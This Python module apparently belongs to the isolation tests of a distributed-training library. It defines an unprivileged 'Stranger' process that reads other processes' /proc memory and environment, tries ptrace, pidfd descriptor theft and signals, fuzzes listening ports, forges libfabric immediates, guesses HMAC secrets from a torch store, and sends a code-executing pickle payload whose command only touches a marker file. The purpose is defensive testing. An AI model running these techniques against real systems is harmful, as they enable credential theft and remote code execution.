"""A process that is not of the job, and what it tries: with any user's rights, over whatever it can
see of the job's processes.

Its attempts are told apart in what it reports: a name, how often it was tried, and what came of it.
What must not happen is judged by who started it, who knows the job's secrets.
"""

import contextlib
import ctypes
import encodings.idna  # noqa: F401  (addresses need it, and a stranger may not read Python's folder)
import hashlib
import hmac
import json
import os
import pickle
import socket
import struct
import time
from collections import Counter
from collections.abc import Iterator
from datetime import timedelta
from pathlib import Path
from typing import Any

NOBODY = 65534

# ---- libfabric's tcp (1.17), as a connection begins and as an immediate without data or key ----

GREETING = struct.pack("<BBHIQQQ", 3, 0, 0x1800, 0, 0, 0, 1) + struct.pack(
    "<BBBBHHIIQ", 1, 2, 4, 3, 0xFFFF, 2, 0x4000, 0x80, 0x7777 << 32
)
PIECE, ACK, ASK, ANSWER = range(4)


def immediate(kind: int, rank: int, life: int, sequence: int) -> int:
    """As src/transport/rdma/wire.h packs it."""
    return kind << 30 | rank << 24 | life << 20 | (sequence & 0xFFFFF)


def write_of_nothing(data: int) -> bytes:
    """A write with an immediate, to no memory."""
    return struct.pack("<BBHBBBBQQ", 3, 4, 1, 0, 0, 24, 0, 24, data)


def greet_fabric(port: int) -> socket.socket | None:
    """A connection that libfabric takes for a peer's; None where something else listens."""
    with contextlib.suppress(OSError):
        sock = socket.create_connection(("127.0.0.1", port), timeout=2)
        sock.sendall(GREETING)
        if sock.recv(64)[:2] == b"\x03\x01":
            return sock
        sock.close()
    return None


def sweep(sock: socket.socket, kinds: tuple[int, ...], ranks: int, end_s: float) -> int:
    """Immediates of all kinds, ranks and near sequences, again and again; how many were sent."""
    sent = 0
    while time.monotonic() < end_s:
        for first in range(0, 6000, 32):
            batch = [
                write_of_nothing(immediate(kind, rank, 0, first + i))
                for kind in kinds
                for rank in range(ranks)
                for i in range(32)
            ]
            sock.sendall(b"".join(batch))
            sent += len(batch)
            if time.monotonic() > end_s:
                break
    return sent


# ---- what can be seen of a job ----


def _sockets_of(pids: list[int]) -> set[str]:
    found = set()
    for pid in pids:
        with contextlib.suppress(OSError):
            for link in Path(f"/proc/{pid}/fd").iterdir():
                with contextlib.suppress(OSError):
                    name = os.readlink(link)
                    if name.startswith("socket:["):
                        found.add(name[8:-1])
    return found


def ports_of(pids: list[int]) -> list[int]:
    """The TCP ports on which these processes listen. Whoever may look into them must ask: a
    stranger sees the ports of all and takes them all, which tests beside this one would suffer.
    """
    own = _sockets_of(pids)
    rows = []
    for table in ("/proc/net/tcp", "/proc/net/tcp6"):
        with contextlib.suppress(OSError):
            rows += [line.split() for line in Path(table).read_text().splitlines()[1:]]
    return [int(row[1].rpartition(":")[2], 16) for row in rows if row[3] == "0A" and row[9] in own]


def names_of(pids: list[int]) -> list[str]:
    """Their sockets without a port that have a name and listen."""
    own, listens = _sockets_of(pids), "00010000"
    rows = [line.split() for line in Path("/proc/net/unix").read_text().splitlines()[1:]]
    named = [row for row in rows if len(row) == 8 and row[7].startswith("@")]
    return [row[7] for row in named if row[6] in own and row[3] == listens]


# ---- the stranger ----

_libc = ctypes.CDLL(None, use_errno=True)
_PTRACE_ATTACH, _PIDFD_OPEN, _PIDFD_GETFD = 16, 434, 438


class Stranger:
    """Tries what it can until its time is over."""

    def __init__(self, pids: list[int], ports: list[int], names: list[str], mark: str) -> None:
        """`mark` is the path of a file that a rank would make if it ran the stranger's code."""
        self.pids, self.ports, self.names, self.mark = pids, ports, names, mark
        self.tried: Counter[str] = Counter()
        self.got: list[str] = []
        self.seen = b""
        """All that it could read."""

    def attempt(self, name: str) -> contextlib.AbstractContextManager[Any]:
        """Counts; an OSError is what should come of it."""
        self.tried[name] += 1
        return contextlib.suppress(OSError, RuntimeError, struct.error)

    # processes and files

    def look_into_processes(self) -> None:
        """Everything that /proc has of them."""
        for pid in self.pids:
            for name in ("environ", "mem", "maps", "auxv", "stack", "syscall", "pagemap"):
                with self.attempt(f"/proc/pid/{name}"):
                    data = (Path("/proc") / str(pid) / name).read_bytes()
                    self.seen += data
                    if name != "auxv":
                        self.got.append(f"{name} of {pid}: {len(data)} bytes")
            for name in ("fd", "map_files", "root", "cwd", "exe"):
                with self.attempt(f"/proc/pid/{name}"):
                    path = Path("/proc") / str(pid) / name
                    found = os.readlink(path) if path.is_symlink() else sorted(path.iterdir())
                    self.got.append(f"{name} of {pid}: {found}")
            for name in ("cmdline", "status", "stat", "comm", "limits", "cgroup"):
                with self.attempt("/proc/pid, open to all"):
                    self.seen += (Path("/proc") / str(pid) / name).read_bytes()

    def enter_processes(self) -> None:
        """Debuggers' ways."""
        for pid in self.pids:
            self.tried["ptrace"] += 1
            if _libc.ptrace(_PTRACE_ATTACH, pid, 0, 0) == 0:
                self.got.append(f"ptrace of {pid}")
            self.tried["pidfd_getfd"] += 1
            handle = _libc.syscall(_PIDFD_OPEN, pid, 0)
            if any(_libc.syscall(_PIDFD_GETFD, handle, number, 0) >= 0 for number in range(64)):
                self.got.append(f"a descriptor of {pid}")
            for number in (15, 9):
                with self.attempt("kill"):
                    os.kill(pid, number)
                    self.got.append(f"signal {number} to {pid}")

    def read_files(self, folders: list[str]) -> None:
        """Whatever lies in /dev/shm and where secrets are kept."""
        for folder in ("/dev/shm", *folders):
            for path in self._below(folder):
                for mode in ("rb", "r+b"):
                    if not self._is_of_the_job(path):
                        continue
                    with self.attempt("files"), open(path, mode) as file:
                        self.seen += file.read(1 << 20)
                        if mode == "r+b":
                            self.got.append(f"may write {path}")

    def _is_of_the_job(self, path: str) -> bool:
        """Not of other programs that are at work on this machine."""
        name = os.path.basename(path)
        return "braid" in path or any(str(pid) in name for pid in self.pids)

    @staticmethod
    def _below(folder: str) -> Iterator[str]:
        for root, _, files in os.walk(folder):
            yield from (os.path.join(root, name) for name in files)

    # ports

    def knock(self, port: int) -> None:
        """Junk, a request, halves of greetings, and silence."""
        held = []
        for said in (
            os.urandom(200),
            b"GET /metrics HTTP/1.1\r\n\r\n",
            b"\x28\0\0\0\x02BRAIDST\x01" + os.urandom(34),
            struct.pack("<8sI32s", b"braidp2p", 0, os.urandom(32)) + os.urandom(96),
            b"\xff" * 64,
            b"",
        ):
            with self.attempt("ports"):
                sock = socket.create_connection(("127.0.0.1", port), timeout=1)
                held.append(sock)
                sock.settimeout(0.05)
                sock.sendall(said)
                self.seen += sock.recv(4096)
        for sock in held:
            sock.close()

    def forge(self, port: int, end_s: float) -> None:
        """Immediates, where libfabric listens."""
        with self.attempt("forged immediates"):
            sock = greet_fabric(port)
            if sock is not None:
                self.tried["immediates"] += sweep(sock, (PIECE, ACK, ASK, ANSWER), 2, end_s)

    def knock_by_name(self, name: str) -> None:
        """At a socket without a port: whether anything is said there at all."""
        for rank in (0, 1):
            with self.attempt("named sockets"):
                sock = socket.socket(socket.AF_UNIX)
                sock.settimeout(0.2)
                sock.connect("\0" + name[1:])
                sock.sendall(struct.pack("<8sI32s", b"braidp2p", rank, os.urandom(32)))
                if answer := sock.recv(4096):
                    self.got.append(f"{name} answered {len(answer)} bytes")

    # the job's store of torch

    @staticmethod
    def may_be_a_store(port: int) -> bool:
        """Whether nobody there speaks first, or as libfabric does."""
        if (fabric := greet_fabric(port)) is not None:
            fabric.close()
            return False
        with contextlib.suppress(OSError), socket.create_connection(("127.0.0.1", port)) as sock:
            sock.settimeout(1)
            return not sock.recv(64)
        return True

    def read_store(self, port: int) -> None:
        """Takes what lies there, and with it tries to become a rank that sends objects."""
        if not self.may_be_a_store(port):
            return
        from torch.distributed import PrefixStore, TCPStore

        with self.attempt("torch's store"):
            store = TCPStore("127.0.0.1", port, is_master=False, timeout=timedelta(seconds=10))
            for key in store.list_keys():
                self.seen += store.get(key)
                if key.endswith("/invitation"):
                    self._use_invitation(PrefixStore(key.removesuffix("/invitation"), store))

    def _use_invitation(self, place: Any) -> None:
        from torch.distributed import PrefixStore

        invitation = json.loads(place.get("invitation"))
        self.tried["invitations read"] += 1
        group = PrefixStore(invitation["place"], place)
        for rank in (0, 1):
            if not group.check([f"post/{rank}"]):
                continue
            where = group.get(f"post/{rank}").decode()
            for secret in _guesses(invitation):
                self.tried["objects sent"] += 1
                with contextlib.suppress(Exception):
                    self._send_object(where, 1 - rank, secret)

    def _send_object(self, where: str, rank: int, secret: str) -> None:
        """A pickle that runs our code where somebody loads it."""
        from braid.torch.wire import Wire

        class Bomb:
            def __reduce__(self) -> Any:
                return (os.system, (f"touch {mark}",))

        mark = self.mark
        address, last = where.rsplit(" ", 1)
        if address == "here":
            sock = socket.socket(socket.AF_UNIX)
            sock.settimeout(1)
            sock.connect("\0" + last)
        else:
            sock = socket.create_connection((address, int(last)), timeout=1)
        wire = Wire(sock, lambda: None)
        end_s = time.monotonic() + 1
        wire.greet_receiver(rank, secret, end_s)
        self.got.append(f"proved itself at {where}")
        data = pickle.dumps(Bomb())
        wire.send_message(0, struct.pack("<q", len(data)), end_s)
        wire.send_message(0, data, end_s)

    # all of it

    def report(self) -> dict[str, Any]:
        """For who started it."""
        return {"tried": dict(self.tried), "got": self.got, "seen": self.seen}


def _guesses(invitation: dict[str, Any]) -> list[str]:
    """What follows from the store alone, by the ways in which a secret was or is derived."""
    salt = str(invitation.get("secret", invitation.get("salt", "")))
    guesses = [salt, ""]
    for key in (salt, "", "braid"):
        for said in ("post", f"post of {salt}"):
            guesses.append(hmac.new(key.encode(), said.encode(), hashlib.sha256).hexdigest())
    return guesses


def become_nobody() -> None:
    """Gives up every right."""
    os.setgroups([])
    os.setresgid(NOBODY, NOBODY, NOBODY)
    os.setresuid(NOBODY, NOBODY, NOBODY)
